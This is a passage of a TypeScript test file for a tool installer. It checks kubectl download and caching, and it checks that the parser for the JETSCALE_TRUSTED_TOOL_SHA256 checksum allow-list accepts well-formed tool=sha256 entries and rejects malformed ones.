    await captureStdout(() => installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()));
    expect(readFileSync(join(dir, 'kubectl'))).toEqual(kubectlBinary);
    expect(server.requestCount(kubectlPath)).toBe(1);
  });

  test('a malformed JETSCALE_TRUSTED_TOOL_SHA256 fails before anything is installed', async () => {
    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = 'kubectl=abc';
    server.serve(kubectlPath, kubectlBinary);
    await expect(installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts())).rejects.toThrow(
      "JETSCALE_TRUSTED_TOOL_SHA256: 'kubectl=abc' is not a tool=sha256 entry (tools: kind, helm, skaffold, " +
        'kubectl; sha256: 64 lower-case hex digits)',
    );
    expect(server.requestCount()).toBe(0);
    expectNothingCached('kubectl', KUBECTL_VERSION);
  });
});

describe('parseTrustedTools', () => {
  const a = 'a'.repeat(64);
  const b = 'b'.repeat(64);
  test.each([
    [undefined, {}],
    ['', {}],
    [`kubectl=${a}`, { kubectl: [a] }],
    [` kubectl=${a},helm=${b}\nkubectl=${b} `, { kubectl: [a, b], helm: [b] }],
  ])('%j → %j', (text, expected) => {
    expect(parseTrustedTools(text)).toEqual(expected);
  });
  test.each([`tilt=${a}`, `kubectl=${a.toUpperCase()}`, `kubectl:${a}`, 'kubectl'])(
    '%s is refused',
    (text) => {
      expect(() => parseTrustedTools(text)).toThrow(
        `JETSCALE_TRUSTED_TOOL_SHA256: '${text}' is not a tool=sha256`,
      );
    },
  );
});
